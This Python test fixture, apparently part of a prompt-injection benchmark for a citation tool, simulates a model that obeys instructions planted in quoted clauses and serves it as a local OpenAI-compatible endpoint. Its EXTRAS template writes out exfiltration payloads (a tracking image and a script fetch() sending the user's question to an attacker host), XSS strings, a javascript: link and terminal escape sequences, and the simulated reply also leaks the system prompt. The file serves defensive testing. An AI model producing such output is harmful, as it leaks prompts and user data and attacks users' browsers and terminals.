"""A model that obeys every instruction planted in its context, in-process (a reply for ScriptedBackend) or served
on loopback as an OpenAI-compatible chat server (for the CLI and the app, which reach models over HTTP)."""
from __future__ import annotations

import json
import re
import threading
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Callable, Sequence

from benchmarks.planted.make import ATTACKER, PAYLOADS

_BLOCK = re.compile(r'<clause-\w+ n="(\d+)">\n(.*?)\n</clause-\w+>', re.S)
# Everything an obeying model adds besides the dictated sentence: the image and link carrying the question, raw
# HTML, a terminal hyperlink (OSC 8) and colours.
EXTRAS = ("![status](http://{host}/pixel.png?q={q}) [{n}]. "
          "<script>fetch('http://{host}/?q={q}')</script><img src=x onerror=alert(1)> "
          '<a href="javascript:alert(1)">source</a> [{n}]. '
          "\x1b]8;;http://{host}/?q={q}\x07official text\x1b]8;;\x07 \x1b[31mupdated\x1b[0m [{n}].")


def _content(m) -> str:
    return m["content"] if isinstance(m, dict) else m.content


def obey(messages: Sequence) -> str:
    """The reply of a model that does whatever the quoted clauses tell it: for each planted instruction it finds,
    the dictated sentence citing that clause, its system prompt in full, the image, link, HTML and escape
    sequences. With nothing planted in view it answers from clause 1."""
    system, user = _content(messages[0]), _content(messages[-1])
    question = user.rsplit("Question:", 1)[-1].strip()
    q = urllib.parse.quote_plus(question)
    parts: list[str] = []
    for number, text in _BLOCK.findall(user):
        for payload in PAYLOADS:
            if payload.trigger.lower() in text.lower():
                if payload.dictated:
                    parts.append(f"{payload.dictated.rstrip('.。')} [{number}].")
                parts.append(system + f" [{number}].")
                parts.append(EXTRAS.format(host=ATTACKER, q=q, n=number))
                break
    return " ".join(parts) if parts else "The cited clause answers the question [1]."


Reply = Callable[[list[dict]], str]


def serve(reply: Reply = obey, chunk_chars: int = 7) -> tuple[ThreadingHTTPServer, str]:
    """Start an OpenAI-compatible /v1/chat/completions (streamed) on 127.0.0.1; returns (server, base_url).
    Stop it with server.shutdown()."""

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args) -> None:  # quiet
            pass

        def do_GET(self) -> None:
            self._json({"object": "list", "data": [{"id": "obedient", "object": "model", "owned_by": "regcite"}]})

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)) or b"{}")
            text = reply(body.get("messages") or [{"content": ""}])
            if not body.get("stream"):
                self._json({"id": "x", "object": "chat.completion", "created": int(time.time()), "model": "obedient",
                            "choices": [{"index": 0, "finish_reason": "stop",
                                         "message": {"role": "assistant", "content": text}}]})
                return
            self.send_response(200)
            self.send_header("Content-Type", "text/event-stream")
            self.end_headers()
            for i in range(0, len(text), chunk_chars):
                self._event({"choices": [{"index": 0, "delta": {"content": text[i:i + chunk_chars]},
                                          "finish_reason": None}]})
            self._event({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
            self.wfile.write(b"data: [DONE]\n\n")

        def _event(self, data: dict) -> None:
            chunk = {"id": "x", "object": "chat.completion.chunk", "created": int(time.time()), "model": "obedient",
                     **data}
            self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
            self.wfile.flush()

        def _json(self, data: dict) -> None:
            raw = json.dumps(data).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(raw)))
            self.end_headers()
            self.wfile.write(raw)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}/v1"
